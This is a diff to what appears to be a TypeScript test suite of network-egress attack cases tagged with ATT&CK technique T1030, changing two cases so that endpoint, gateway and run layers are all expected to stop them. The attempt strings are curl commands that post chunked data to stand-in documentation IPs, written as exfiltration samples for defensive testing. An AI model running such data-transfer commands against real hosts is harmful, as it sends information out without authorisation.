@@ -1,8 +1,7 @@
-import { elsewhere, passes, STOPPED, type Attack } from './attack.ts'
+import { passes, STOPPED, type Attack } from './attack.ts'
 
 const ssh = 'ssh -F ssh.conf'
 const everywhere = { endpoint: STOPPED, gateway: STOPPED, run: STOPPED } as const
-const limited = { ...everywhere, run: elsewhere('a policy with limits is refused') } as const
 const plain = { says: /hello from/ } as const
 const canary = { says: /^canary$/m } as const
 
@@ -246,7 +245,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'head -c 3000000 /dev/zero | curl -sS -m 5 --data-binary @- http://198.51.100.20/',
     through: { says: /^3000000$/m },
     flows: /^198\.51\.100\.20 80$/,
-    ...limited,
+    ...everywhere,
   },
   {
     technique: 'T1030 Data Transfer Size Limits',
@@ -256,6 +255,6 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: `for piece in $(seq 15); do head -c 100000 /dev/zero | curl -sS -m 5 --data-binary @- http://198.51.100.10/ || break; done | grep -c 100000`,
     through: { says: /^15$/m },
     flows: /^198\.51\.100\.10 80$/,
-    ...limited,
+    ...everywhere,
   },
 ]
